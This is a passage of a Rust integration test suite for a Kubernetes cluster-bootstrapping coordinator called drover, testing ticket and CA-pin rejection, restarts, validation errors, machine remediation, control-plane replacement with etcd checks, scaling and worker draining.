                "control-plane machines must share one cluster CA"
            );
        }
        ca = Some(this_ca);
        if subs.contains(&"join".to_string()) {
            // A control-plane join: kubeadm wrote the admin kubeconfig and
            // the API server's manifest.
            assert!(exists(&a.root, "etc/kubernetes/admin.conf"));
            assert!(exists(
                &a.root,
                "etc/kubernetes/manifests/kube-apiserver.yaml"
            ));
        }
        // The config held the join token: gone once kubeadm succeeded.
        assert!(
            !exists(&a.root, "etc/drover/kubeadm.yaml"),
            "the kubeadm config with its join token outlived the bootstrap"
        );
    }
    assert_eq!((inits, joins), (1, 2));
}

fn write_doc(path: &Path, v: &serde_json::Value) {
    std::fs::write(path, serde_saphyr::to_string(v).unwrap()).unwrap();
}

fn wait_exit(a: &mut Agent) -> i32 {
    wait_for("the agent to exit", Duration::from_secs(30), || {
        a.try_exit()
            .map(|s| s.code().unwrap_or(-1))
            .ok_or_else(|| a.log())
    })
}

#[test]
fn bad_tickets_and_wrong_pins_are_refused_with_clear_errors() {
    let (tmp, c, good) = coordinator_with_token("default", "env=dev", 1, "1h");

    // Forged: a ticket whose signature was altered.
    let mut doc = read_yaml(&good);
    let ticket = doc["ticket"].as_str().unwrap().to_owned();
    let (signed, _) = ticket.rsplit_once('.').unwrap();
    doc["ticket"] = format!("{signed}.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA").into();
    let forged = tmp.path().join("forged.yaml");
    write_doc(&forged, &doc);
    let mut a = Agent::start(&tmp.path().join("forged"), "forged", &forged);
    assert_eq!(wait_exit(&mut a), 2);
    assert!(a.log().contains("signature is invalid"), "{}", a.log());

    // Wrong CA pin: the agent refuses the coordinator before sending anything.
    let mut doc = read_yaml(&good);
    doc["caPin"] = "sha256:0000000000000000000000000000000000000000000000000000000000000000".into();
    let wrong_pin = tmp.path().join("wrongpin.yaml");
    write_doc(&wrong_pin, &doc);
    let mut a = Agent::start(&tmp.path().join("wrongpin"), "wrongpin", &wrong_pin);
    let deadline_log = wait_for(
        "the agent to report the pin mismatch",
        Duration::from_secs(30),
        || {
            let log = a.log();
            if log.contains("does not match") && log.contains("sha256:0000") {
                Ok(log)
            } else {
                Err(log)
            }
        },
    );
    assert!(deadline_log.contains("pinned"), "{deadline_log}");
    a.kill();
    assert!(
        c.machines().is_empty(),
        "nothing registered with a wrong pin"
    );

    // Replayed: the single-use ticket works once, then is refused.
    let first = Agent::start(&tmp.path().join("first"), "first", &good);
    wait_for("the first machine to register", BOOT, || {
        if c.machines().len() == 1 {
            Ok(())
        } else {
            Err(first.log())
        }
    });
    let mut replay = Agent::start(&tmp.path().join("replay"), "replay", &good);
    assert_eq!(wait_exit(&mut replay), 2);
    assert!(replay.log().contains("already used"), "{}", replay.log());
    assert_eq!(c.machines().len(), 1);

    // Expired: a ticket used after its TTL.
    let short = tmp.path().join("short.yaml");
    c.token("default", "env=dev", 1, "1s", &short);
    let claims_exp = {
        let doc = read_yaml(&short);
        let t = doc["ticket"].as_str().unwrap().to_owned();
        let body = t.split('.').nth(1).unwrap().to_owned();
        use base64::Engine;
        let json = base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(body)
            .unwrap();
        serde_json::from_slice::<serde_json::Value>(&json).unwrap()["expiresAt"]
            .as_i64()
            .unwrap()
    };
    wait_for(
        "the short ticket to expire",
        Duration::from_secs(10),
        || {
            let now = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_secs() as i64;
            if now > claims_exp {
                Ok(())
            } else {
                Err(format!("now {now}, expires {claims_exp}"))
            }
        },
    );
    let mut late = Agent::start(&tmp.path().join("late"), "late", &short);
    assert_eq!(wait_exit(&mut late), 2);
    assert!(late.log().contains("expired"), "{}", late.log());
    assert_eq!(c.machines().len(), 1);
}

#[test]
fn killed_agent_resumes_and_restarted_coordinator_keeps_state() {
    let (tmp, mut c, boot) = coordinator_with_token("default", "env=dev", 2, "1h");
    let mut agents = [
        Agent::start(&tmp.path().join("a"), "a", &boot),
        Agent::start(&tmp.path().join("b"), "b", &boot),
    ];
    wait_registered(&c, 2);
    apply(&c, tmp.path(), &pool_cluster_yaml("keep", 1, 1, "dev"));
    // Kill the worker's agent as soon as it is assigned, before it can finish.
    let (init_host, worker_host) = wait_for("both machines to be assigned", BOOT, || {
        let ms = c.machines();
        let role = |h: &str| {
            machine_by_host(&ms, h)["spec"]["assignment"]["role"]
                .as_str()
                .map(str::to_owned)
        };
        match (role("a").as_deref(), role("b").as_deref()) {
            (Some("init"), Some("worker")) => Ok(("a", "b")),
            (Some("worker"), Some("init")) => Ok(("b", "a")),
            other => Err(format!("{other:?}")),
        }
    });
    let idx = |h: &str| agents.iter().position(|a| a.hostname == h).unwrap();
    let (ci, wi) = (idx(init_host), idx(worker_host));
    agents[wi].kill();
    agents[wi].restart();
    c.wait_cluster_phase("keep", "Running", BOOT);

    // Restart the init machine's agent: it resumes and never runs init again.
    agents[ci].kill();
    let lines_before = agents[ci].log().lines().count();
    agents[ci].restart();
    wait_for("the restarted agent to resume", BOOT, || {
        let log = agents[ci].log();
        let new: Vec<&str> = log.lines().skip(lines_before).collect();
        if new.iter().any(|l| l.contains("heartbeat")) {
            Ok(())
        } else {
            Err(new.join("\n"))
        }
    });
    c.wait_cluster_phase("keep", "Running", BOOT);
    assert_eq!(
        agents[ci]
            .kubeadm_subcommands()
            .iter()
            .filter(|s| *s == "init")
            .count(),
        1
    );
    assert_eq!(
        c.machines().len(),
        2,
        "a restarted agent must not register again"
    );

    // Restart the coordinator: clusters, machines and the admin token survive.
    let before = c.cli_ok(&["get", "machines", "-o", "json"]);
    let before: Vec<serde_json::Value> = serde_json::from_str(&before).unwrap();
    c.restart();
    assert!(
        c.admin_token.len() > 10,
        "first start printed the admin token"
    );
    let after = c.machines();
    assert_eq!(
        before
            .iter()
            .map(|m| m["metadata"]["uid"].clone())
            .collect::<Vec<_>>(),
        after
            .iter()
            .map(|m| m["metadata"]["uid"].clone())
            .collect::<Vec<_>>()
    );
    assert_eq!(c.cluster("keep").unwrap()["status"]["phase"], "Running");
    // Agents keep reporting to the restarted coordinator.
    wait_for(
        "a fresh heartbeat after the restart",
        Duration::from_secs(30),
        || {
            let out = c.cli_ok(&["get", "machines"]);
            let fresh = out
                .lines()
                .skip(1)
                .filter(|l| {
                    l.split_whitespace()
                        .nth(6)
                        .and_then(|a| a.strip_suffix('s'))
                        .and_then(|n| n.parse::<u32>().ok())
                        .is_some_and(|n| n <= 3)
                })
                .count();
            if fresh == 2 {
                Ok(())
            } else {
                Err(out)
            }
        },
    );
    // The admin token from the first start still works after the restart.
    let out = c.cli(&["get", "clusters"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn failed_bootstrap_is_visible_without_logging_in() {
    let (tmp, c, boot) = coordinator_with_token("default", "env=dev", 1, "1h");
    let a = Agent::start(&tmp.path().join("m"), "broken", &boot);
    // Something else holds the port the API server must listen on, so
    // kubeadm's preflight fails as it would on a real machine.
    let _squatter = std::net::TcpListener::bind((a.address.as_str(), a.ports.api_server)).unwrap();
    wait_for("the machine to register", BOOT, || {
        if c.machines().len() == 1 {
            Ok(())
        } else {
            Err(a.log())
        }
    });
    apply(&c, tmp.path(), &pool_cluster_yaml("broken", 1, 0, "dev"));
    let name = wait_for("the machine to fail", BOOT, || {
        let ms = c.machines();
        let m = &ms[0];
        if m["status"]["phase"] == "Failed" {
            Ok(m["metadata"]["name"].as_str().unwrap().to_owned())
        } else {
            Err(m.to_string())
        }
    });
    let out = c.cli_ok(&["describe", "machine", &name]);
    assert!(out.contains("Phase:          Failed"), "{out}");
    assert!(
        out.contains("kubeadm init --config /etc/drover/kubeadm.yaml --rootfs"),
        "{out}"
    );
    assert!(out.contains("exit code:    1"), "{out}");
    assert!(
        out.contains(&format!("Port-{}", a.ports.api_server)),
        "{out}"
    );
    let table = c.cli_ok(&["get", "machines"]);
    assert!(table.contains("Failed"), "{table}");
    // The cluster does not pretend to be running.
    assert_ne!(c.cluster("broken").unwrap()["status"]["phase"], "Running");
}

#[test]
fn bad_cluster_documents_are_refused_and_change_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::in_process(tmp.path(), CoordinatorOptions::default());
    apply(&c, tmp.path(), &pool_cluster_yaml("stable", 1, 2, "dev"));
    let before = c.cluster("stable").unwrap();

    // Each case: the control planes of the document, the text changed
    // in it (from "" to "": none) and what the refusal says.
    let edits = [
        (1, "replicas: 2", "replicas: 2\n      replcas: 3", "unknown field `replcas`"),
        (2, "", "", "spec.controlPlane.replicas"),
        (1, "v1.31.2", "1.31", "spec.kubernetesVersion"),
        (1, "replicas: 2", "replicas: two", "replicas"),
        (3, "  controlPlaneEndpoint:\n    managed: coordinator\n", "", "needs an endpoint that outlives any one of them"),
        (3, "managed: coordinator", "managed: kube-vip", "\"kube-vip\" is not known"),
        (1, "v1.31.2", "v1.33.0", "Kubernetes upgrades one minor release at a time; allowed: v1.31.2 itself, a later v1.31 patch, or a v1.32 release"),
        (1, "v1.31.2", "v1.30.9", "Kubernetes supports no downgrade"),
        (1, "v1.31.2", "v1.29.0", "must be v1.30.0 or later"),
        (1, "    replicas: 1\n", "    replicas: 1\n    rollout:\n      maxSurge: 0\n", "spec.controlPlane.rollout.maxSurge: 0 (replace in place) needs at least 3 control planes"),
        (1, "      replicas: 2\n", "      replicas: 2\n      rollout:\n        maxSurge: 0\n        maxUnavailable: 0\n", "spec.workerPools[0].rollout: maxSurge and maxUnavailable cannot both be 0"),
        (1, "  controlPlane:", "  upgrade:\n    settleTime: soon\n  controlPlane:", "spec.upgrade.settleTime"),
        (1, "  controlPlane:", "  upgrade:\n    renewCertificatesBefore: 400d\n  controlPlane:", "spec.upgrade.renewCertificatesBefore: must be at least 7d and less than 365d"),
    ];
    let mut cases: Vec<(String, &str)> = edits
        .iter()
        .map(|(cp, from, to, expected)| {
            let doc = pool_cluster_yaml("stable", *cp, 2, "dev");
            let doc = if from.is_empty() {
                doc
            } else {
                doc.replace(from, to)
            };
            (doc, *expected)
        })
        .collect();
    cases.insert(6, ("kind: Cluster\nmetadata: [oops\n".to_string(), "YAML"));
    for (doc, expected) in cases {
        let f = tmp.path().join("bad.yaml");
        let err = c.apply_refused(&f, &doc);
        assert!(err.contains(expected), "error for {expected:?} was: {err}");
    }
    let after = c.cluster("stable").unwrap();
    // The reconciler may have written status meanwhile; the spec is untouched.
    assert_eq!(
        before["metadata"]["generation"],
        after["metadata"]["generation"]
    );
    assert_eq!(before["metadata"]["uid"], after["metadata"]["uid"]);
    assert_eq!(before["spec"], after["spec"]);
}

#[test]
fn clients_find_the_coordinator_through_flags_environment_or_config() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::start(tmp.path(), CoordinatorOptions::default());
    let ca = tmp.path().join("data/ca.crt");
    let run = |envs: &[(&str, String)], args: &[&str]| {
        let mut cmd = std::process::Command::new(bin("drover"));
        cmd.args(args)
            .env("DROVER_CONFIG", tmp.path().join("no-such-config.yaml"))
            .env_remove("DROVER_ADDR")
            .env_remove("DROVER_TOKEN")
            .env_remove("DROVER_CA");
        for (k, v) in envs {
            cmd.env(k, v);
        }
        cmd.output().unwrap()
    };
    // The environment alone.
    let out = run(
        &[
            ("DROVER_ADDR", c.url()),
            ("DROVER_TOKEN", c.admin_token.clone()),
            ("DROVER_CA", ca.display().to_string()),
        ],
        &["get", "clusters"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Flags alone.
    let out = run(
        &[],
        &[
            "get",
            "clusters",
            "--addr",
            &c.url(),
            "--token",
            &c.admin_token,
            "--ca",
            ca.to_str().unwrap(),
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Nothing: a clear error saying what to pass.
    let out = run(&[], &["get", "clusters"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--addr") && err.contains("DROVER_ADDR"),
        "{err}"
    );
    // A wrong token is refused with a clear error.
    let out = run(
        &[
            ("DROVER_ADDR", c.url()),
            ("DROVER_TOKEN", "drv_00000000_wrong".into()),
            ("DROVER_CA", ca.display().to_string()),
        ],
        &["get", "clusters"],
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("not valid"));
}

#[test]
fn a_second_coordinator_on_the_same_data_directory_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::start(tmp.path(), CoordinatorOptions::default());
    let config = tmp.path().join("second.yaml");
    let serve = |data: &Path, extra: &[&str]| drover_serve(data, &config, extra).output().unwrap();
    let out = serve(&c.dir.join("data"), &[]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains("another coordinator is serving") && err.contains("drover.db.lock"),
        "{err}"
    );
    // The first one goes on serving, its store untouched.
    assert!(c.machines().is_empty());

    // A bad --idle-timeout is a configuration error: exit 64 before
    // anything is created.
    let fresh = tmp.path().join("fresh");
    let out = serve(&fresh, &["--idle-timeout", "10ms"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(64), "{err}");
    assert!(
        err.contains("--idle-timeout must be at least 100ms"),
        "{err}"
    );
    assert!(!fresh.join("drover.db").exists());
}

/// The name of the machine whose agent has hostname `host`.
fn name_of(c: &Coordinator, host: &str) -> String {
    machine_by_host(&c.machines(), host)["metadata"]["name"]
        .as_str()
        .unwrap()
        .to_owned()
}

#[test]
fn pool_machines_are_judged_replaced_and_taken_out_on_request() {
    let (tmp, c, mut agents) = registered_pool(5, "node-");
    apply(&c, tmp.path(), &pool_cluster_yaml("heal", 1, 3, "dev"));
    c.wait_cluster_phase("heal", "Running", BOOT);
    let machines = c.machines();
    let role_of = |host: &str| {
        machine_by_host(&machines, host)["spec"]["assignment"]["role"]
            .as_str()
            .map(str::to_owned)
    };
    let spare = agents
        .iter()
        .position(|a| role_of(&a.hostname).is_none())
        .expect("one machine stays free");
    let victim = agents
        .iter()
        .position(|a| role_of(&a.hostname).as_deref() == Some("worker"))
        .unwrap();
    let victim_name = name_of(&c, &agents[victim].hostname);
    let spare_name = name_of(&c, &agents[spare].hostname);

    // A worker whose agent and daemons die is judged silent, taken out, and
    // the free machine is claimed in its place.
    agents[victim].kill();
    agents[victim].stop_daemons();
    wait_for("the spare to replace the silent worker", BOOT, || {
        let ms = c.machines();
        let spare = ms
            .iter()
            .find(|m| m["metadata"]["name"] == spare_name)
            .unwrap();
        let old = ms
            .iter()
            .find(|m| m["metadata"]["name"] == victim_name)
            .unwrap();
        if spare["spec"]["assignment"]["replaces"] == victim_name.as_str()
            && spare["status"]["phase"] == "Running"
            && old["status"]["phase"] == "Releasing"
        {
            Ok(())
        } else {
            Err(format!(
                "spare {} {}, victim {}",
                spare["status"]["phase"], spare["spec"]["assignment"], old["status"]["phase"]
            ))
        }
    });
    c.wait_cluster_phase("heal", "Running", BOOT);
    let described = c.cli_ok(&["describe", "machine", &victim_name]);
    assert!(
        described.contains("Remediating") && described.contains("no heartbeat"),
        "describe says why it was taken out: {described}"
    );

    // When it comes back, it is reset before it can serve again.
    agents[victim].restart();
    wait_for(
        "the returning machine to be reset into the pool",
        BOOT,
        || {
            let ms = c.machines();
            let m = ms
                .iter()
                .find(|m| m["metadata"]["name"] == victim_name)
                .unwrap();
            if m["status"]["phase"] == "Registered" && m["spec"]["assignment"].is_null() {
                Ok(())
            } else {
                Err(format!("{}", m["status"]["phase"]))
            }
        },
    );
    assert_eq!(
        agents[victim]
            .kubeadm_subcommands()
            .last()
            .map(String::as_str),
        Some("reset")
    );

    // The only control plane cannot be deleted.
    let init = agents
        .iter()
        .find(|a| role_of(&a.hostname).as_deref() == Some("init"))
        .unwrap();
    let init_name = name_of(&c, &init.hostname);
    let err = c.cli_refused(&["delete", "machine", &init_name]);
    assert!(err.contains("only control-plane machine"), "{err}");

    // An operator deletes a worker: it is reset and deregistered, and the
    // returned machine takes its place.
    let worker_name = name_of(
        &c,
        &agents
            .iter()
            .find(|a| {
                a.hostname != agents[victim].hostname
                    && role_of(&a.hostname).as_deref() == Some("worker")
            })
            .unwrap()
            .hostname,
    );
    let said = c.cli_ok(&[
        "delete",
        "machine",
        &worker_name,
        "--wait",
        "--timeout",
        "90s",
    ]);
    assert!(
        said.contains("deletion requested") && said.contains("deleted"),
        "{said}"
    );
    let gone: serde_json::Value =
        serde_json::from_str(&c.cli_ok(&["get", "machines", &worker_name, "-o", "json"])).unwrap();
    assert_eq!(gone[0]["status"]["phase"], "Deleted", "{gone}");
    assert!(
        !c.machines()
            .iter()
            .any(|m| m["metadata"]["name"] == worker_name),
        "a deleted machine is listed only with --all"
    );
    c.wait_cluster_phase("heal", "Running", BOOT);
    let back = c.machines();
    let back = back
        .iter()
        .find(|m| m["metadata"]["name"] == victim_name)
        .unwrap();
    assert_eq!(
        back["spec"]["assignment"]["replaces"],
        worker_name.as_str(),
        "{back}"
    );
    let audit = c.cli_ok(&["audit", "--limit", "500"]);
    assert!(
        audit
            .lines()
            .any(|l| l.contains("DELETE") && l.contains(&format!("/v1/machines/{worker_name}"))),
        "the deletion is audited: {audit}"
    );
}

#[test]
fn the_coordinator_endpoint_outlives_each_control_plane_of_a_pool_cluster() {
    // Three control planes, and three free machines to replace them with.
    let (tmp, c, mut agents) = registered_pool(6, "node-");
    apply(&c, tmp.path(), &pool_cluster_yaml("ha", 3, 0, "dev"));
    c.wait_cluster_phase("ha", "Running", BOOT);
    let cluster = c.cluster("ha").unwrap();
    let endpoint = cluster["status"]["controlPlaneEndpoint"]
        .as_str()
        .unwrap()
        .to_owned();
    let port = cluster["status"]["endpointPort"].as_u64().unwrap();
    assert_eq!(endpoint, format!("127.0.0.1:{port}"));
    let (first, last) = c.endpoint_ports;
    assert!(
        (u64::from(first)..=u64::from(last)).contains(&port),
        "{port}"
    );
    // Every machine joined through the endpoint, and kubectl reaches the
    // API through it.
    let kubeconfig = tmp.path().join("ha.kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "ha"])).unwrap();
    assert!(std::fs::read_to_string(&kubeconfig)
        .unwrap()
        .contains(&format!("server: https://{endpoint}")));
    wait_for("kubectl through the endpoint", BOOT, || {
        kubectl(&kubeconfig, &["get", "--raw", "/readyz"])
    });
    wait_pool_backends(&c, "ha");

    // Real kubectl asks /readyz through the endpoint once a second while
    // each original control plane in turn (the init machine first) dies and
    // is replaced through it: each time the dead member is removed, the
    // dead Node deleted, the proxy's backends are the Running control
    // planes again, and a fresh `drover kubeconfig` works.
    let init_name = cluster["status"]["initMachine"]
        .as_str()
        .unwrap()
        .to_owned();
    let machines = c.machines();
    let mut originals: Vec<usize> = (0..agents.len())
        .filter(|i| {
            let m = machine_by_host(&machines, &agents[*i].hostname);
            m["spec"]["assignment"]["cluster"] == "ha"
        })
        .collect();
    originals.sort_by_key(|i| name_of(&c, &agents[*i].hostname) != init_name);
    assert_eq!(originals.len(), 3);
    let prober = kube::Prober::start(kubeconfig.clone());
    let mut dead: Vec<usize> = vec![];
    for victim in originals {
        let victim_name = name_of(&c, &agents[victim].hostname);
        let before = prober.count();
        agents[victim].kill();
        agents[victim].stop_daemons();
        dead.push(victim);
        wait_for(&format!("a replacement for {victim_name}"), BOOT, || {
            let ms = c.machines();
            let replaced = ms.iter().any(|m| {
                m["spec"]["assignment"]["replaces"] == victim_name.as_str()
                    && m["status"]["phase"] == "Running"
            });
            if replaced {
                Ok(())
            } else {
                Err(format!("{:?}", c.condition("ha", "RemediationAllowed")))
            }
        });
        c.wait_cluster_phase("ha", "Running", BOOT);
        assert!(
            prober.count() > before,
            "no probe finished while {victim_name} was replaced"
        );
        let running = running_hosts(&c, "ha");
        // Real etcd, through a live control plane: exactly the three running
        // control planes are members, all started.
        let survivor = (0..agents.len())
            .find(|i| !dead.contains(i) && running.contains(&agents[*i].hostname))
            .expect("a live control plane");
        wait_for(
            &format!("etcd to list the running control planes after {victim_name}"),
            BOOT,
            || {
                let members = etcdctl_members(&agents[survivor]);
                let names = kube::started_member_names(&members);
                if members.len() == 3 && names == running {
                    Ok(())
                } else {
                    Err(format!("{members:?}, want {running:?}"))
                }
            },
        );
        // Inside the cluster: the running control planes are the Ready
        // Nodes, and the dead machine's Node is gone.
        wait_for(
            &format!("the Nodes to be the running control planes after {victim_name}"),
            BOOT,
            || {
                let (nodes, ready) = kube::nodes(&kubeconfig)?;
                if nodes == running && ready == running {
                    Ok(())
                } else {
                    Err(format!(
                        "Nodes {nodes:?}, Ready {ready:?}, want {running:?}"
                    ))
                }
            },
        );
        wait_pool_backends(&c, "ha");
        // `drover kubeconfig` keeps working: a fresh one reaches the API.
        std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "ha"])).unwrap();
        kubectl(&kubeconfig, &["get", "--raw", "/readyz"]).unwrap();
    }
    prober.stop_and_check("the coordinator's endpoint", 5);
    let st = &c.cluster("ha").unwrap()["status"];
    assert_eq!(
        st["controlPlaneEndpoint"],
        endpoint.as_str(),
        "the endpoint never changes"
    );
    assert!(st["initMachine"].is_null(), "{st}");
    // The coordinator's view follows with the next reports.
    wait_for("the coordinator to see three etcd members", BOOT, || {
        let st = &c.cluster("ha").ok_or("no cluster")?["status"];
        let n = st["etcdMembers"].as_array().map_or(0, Vec::len);
        (n == 3).then_some(()).ok_or(format!("{n} members: {st}"))
    });
    let described = c.cli_ok(&["describe", "cluster", "ha"]);
    assert!(
        described.contains("Load balancer:  coordinator -> ")
            && dead
                .iter()
                .all(|i| !described.contains(&agents[*i].hostname)),
        "{described}"
    );

    // Deleting the cluster closes its endpoint.
    c.cli_ok(&["delete", "cluster", "ha", "--wait", "--timeout", "120s"]);
    wait_for(
        "the endpoint to close",
        BOOT,
        || match std::net::TcpStream::connect(&endpoint) {
            Ok(_) => Err("still accepting".to_owned()),
            Err(_) => Ok(()),
        },
    );
}

/// The hostnames of a cluster's Running machines, sorted.
fn running_hosts(c: &Coordinator, cluster: &str) -> Vec<String> {
    let mut hosts: Vec<String> = c
        .machines()
        .iter()
        .filter(|m| {
            m["status"]["phase"] == "Running" && m["spec"]["assignment"]["cluster"] == cluster
        })
        .filter_map(|m| m["status"]["hostname"].as_str().map(str::to_owned))
        .collect();
    hosts.sort();
    hosts
}

/// Waits until the backends the coordinator's proxies forward to (recorded
/// in `status.loadBalancer`) are exactly the Running control planes.
fn wait_pool_backends(c: &Coordinator, cluster: &str) {
    wait_for(
        "the endpoint's backends to be the Running control planes",
        BOOT,
        || {
            let mine: Vec<serde_json::Value> = c
                .machines()
                .into_iter()
                .filter(|m| m["spec"]["assignment"]["cluster"] == cluster)
                .collect();
            let running = running_control_plane_backends(&mine);
            let lb = c.cluster(cluster).ok_or("no cluster")?["status"]["loadBalancer"].clone();
            let backends: Vec<String> = lb["backends"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|b| b.as_str().map(str::to_owned))
                .collect();
            if lb["id"] == "coordinator" && backends == running {
                Ok(())
            } else {
                Err(format!(
                    "load balancer {lb}, Running control planes {running:?}"
                ))
            }
        },
    );
}

#[test]
fn three_pool_control_plane_replacements_in_a_row_keep_three_members_and_true_nodes() {
    // 3 control planes and 2 workers, and three free machines to replace
    // with.
    let (tmp, c, mut agents) = registered_pool(8, "node-");
    apply(&c, tmp.path(), &pool_cluster_yaml("row", 3, 2, "dev"));
    c.wait_cluster_phase("row", "Running", BOOT);
    let kubeconfig = tmp.path().join("row.kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "row"])).unwrap();
    let init_name = c.cluster("row").unwrap()["status"]["initMachine"]
        .as_str()
        .unwrap()
        .to_owned();
    let init = agents
        .iter()
        .position(|a| name_of(&c, &a.hostname) == init_name)
        .unwrap();
    let mut killed: Vec<String> = vec![];
    // The running machines of the cluster whose agents live, as hostnames:
    // (all, control planes), sorted.
    let expected = |c: &Coordinator, killed: &[String]| {
        let machines = c.machines();
        let mut all: Vec<(String, bool)> = machines
            .iter()
            .filter(|m| {
                m["spec"]["assignment"]["cluster"] == "row" && m["status"]["phase"] == "Running"
            })
            .filter_map(|m| {
                let host = m["status"]["hostname"].as_str()?.to_owned();
                let cp = m["spec"]["assignment"]["role"] != "worker";
                (!killed.contains(&host)).then_some((host, cp))
            })
            .collect();
        all.sort();
        let cps: Vec<String> = all.iter().filter(|x| x.1).map(|x| x.0.clone()).collect();
        (all.into_iter().map(|x| x.0).collect::<Vec<_>>(), cps)
    };
    for round in 0..=3 {
        if round > 0 {
            // A joined control plane (not the init machine) dies.
            let machines = c.machines();
            let victim = agents
                .iter()
                .position(|a| {
                    let m = machine_by_host(&machines, &a.hostname);
                    !killed.contains(&a.hostname)
                        && m["spec"]["assignment"]["cluster"] == "row"
                        && m["spec"]["assignment"]["role"] == "control-plane"
                        && m["status"]["phase"] == "Running"
                })
                .expect("a running joined control plane");
            agents[victim].kill();
            agents[victim].stop_daemons();
            killed.push(agents[victim].hostname.clone());
        }
        wait_for(
            &format!("after {round} replacement(s): 3 started members and 5 Ready Nodes"),
            BOOT,
            || {
                let (all, cps) = expected(&c, &killed);
                let members = etcdctl_members(&agents[init]);
                let started = kube::started_member_names(&members);
                let (nodes, ready) = kube::nodes(&kubeconfig)?;
                if all.len() == 5
                    && cps.len() == 3
                    && members.len() == 3
                    && started == cps
                    && nodes == all
                    && ready == all
                {
                    Ok(())
                } else {
                    Err(format!(
                        "running {all:?} (control planes {cps:?}); started members {started:?} \
                         of {}; Nodes {nodes:?}, Ready {ready:?}; remediation {:?}",
                        members.len(),
                        c.condition("row", "RemediationAllowed")
                    ))
                }
            },
        );
    }
}

/// The etcd member list as real `etcdctl` sees it through `a`'s member,
/// with the API server's etcd client certificate kubeadm wrote there.
fn etcdctl_members(a: &Agent) -> Vec<serde_json::Value> {
    kube::etcd_members(
        &a.root.join("etc/kubernetes/pki"),
        &format!("https://{}:2379", a.address),
    )
    .unwrap_or_default()
}

/// The etcd members started and listed by real etcdctl through `a`.
fn started_members(a: &Agent) -> Vec<String> {
    kube::started_member_names(&etcdctl_members(a))
}

#[test]
fn pool_control_plane_scales_three_one_three_one_machine_at_a_time_with_true_etcd_members() {
    let (tmp, c, agents) = registered_pool(3, "cp-");
    let three = pool_cluster_yaml("scale", 3, 0, "dev");
    c.apply_until_running(tmp.path(), "scale", &three, BOOT);
    let cp_of = |name: &str| -> &Agent {
        let ms = c.machines();
        let host = ms.iter().find(|m| m["metadata"]["name"] == name).unwrap()["status"]["hostname"]
            .as_str()
            .unwrap()
            .to_owned();
        agents.iter().find(|a| a.hostname == host).unwrap()
    };
    let init = c.cluster("scale").unwrap()["status"]["initMachine"]
        .as_str()
        .unwrap()
        .to_owned();
    let init_agent = cp_of(&init);
    assert_eq!(started_members(init_agent), ["cp-0", "cp-1", "cp-2"]);

    // 3 -> 1: one control plane per step, each leaving member removed by
    // its own reset; the init machine stays.
    apply(
        &c,
        tmp.path(),
        &three.replace("    replicas: 3", "    replicas: 1"),
    );
    wait_for("one member left", BOOT, || {
        let m = started_members(init_agent);
        if m == [init_agent.hostname.clone()] {
            Ok(())
        } else {
            Err(format!("{m:?}"))
        }
    });
    c.wait_cluster_phase("scale", "Running", BOOT);

    // 1 -> 3: the released machines come back through the pool and join
    // one after another.
    c.apply_until_running(tmp.path(), "scale", &three, BOOT);
    wait_for("three members again", BOOT, || {
        let m = started_members(init_agent);
        if m.len() == 3 {
            Ok(())
        } else {
            Err(format!("{m:?}"))
        }
    });
    // Joins never overlapped: each joiner started kubeadm only after the
    // previous one reported it finished.
    let joined: Vec<serde_json::Value> = c
        .machines()
        .into_iter()
        .filter(|m| m["metadata"]["name"] != init.as_str())
        .collect();
    assert_bootstrapped_one_after_another(&joined, 2);
}

#[test]
fn a_worker_deleted_on_request_is_drained_first_and_a_disruption_budget_holds_it() {
    let (tmp, c, agents) = registered_pool(2, "node-");
    let yaml = pool_cluster_yaml("drain", 1, 1, "dev") + "  drain:\n    timeout: 20s\n";
    c.apply_until_running(tmp.path(), "drain", &yaml, BOOT);
    let machines = c.machines();
    let role_of = |a: &Agent| {
        machine_by_host(&machines, &a.hostname)["spec"]["assignment"]["role"]
            .as_str()
            .map(str::to_owned)
    };
    let init = agents
        .iter()
        .find(|a| role_of(a).as_deref() == Some("init"))
        .unwrap();
    let worker = agents
        .iter()
        .find(|a| role_of(a).as_deref() == Some("worker"))
        .unwrap();
    let worker_name = name_of(&c, &worker.hostname);
    let admin = init.root.join("etc/kubernetes/admin.conf");
    wait_for("both Nodes Ready", BOOT, || {
        let ready = ready_nodes(&admin)?;
        if ready.len() == 2 {
            Ok(())
        } else {
            Err(format!("{ready:?}"))
        }
    });

    // A Pod on the worker, protected by a budget that allows no disruption,
    // and a bare Pod with an emptyDir volume, which kubectl drain refuses
    // to delete unless told to. Both go 2 s after their eviction.
    let manifests = tmp.path().join("web.yaml");
    std::fs::write(
        &manifests,
        format!(
            "apiVersion: v1\nkind: Pod\nmetadata: {{name: web-1, namespace: default, labels: {{app: web}},\n\
             ownerReferences: [{{apiVersion: apps/v1, kind: ReplicaSet, name: web-rs, uid: 0a, controller: true}}]}}\n\
             spec: {{nodeName: {node}, terminationGracePeriodSeconds: 2, containers: [{{name: web, image: web}}]}}\n---\n\
             apiVersion: v1\nkind: Pod\nmetadata: {{name: solo, namespace: default}}\n\
             spec: {{nodeName: {node}, terminationGracePeriodSeconds: 2, containers: [{{name: s, image: s}}],\n\
             volumes: [{{name: scratch, emptyDir: {{}}}}]}}\n---\n\
             apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata: {{name: web, namespace: default}}\n\
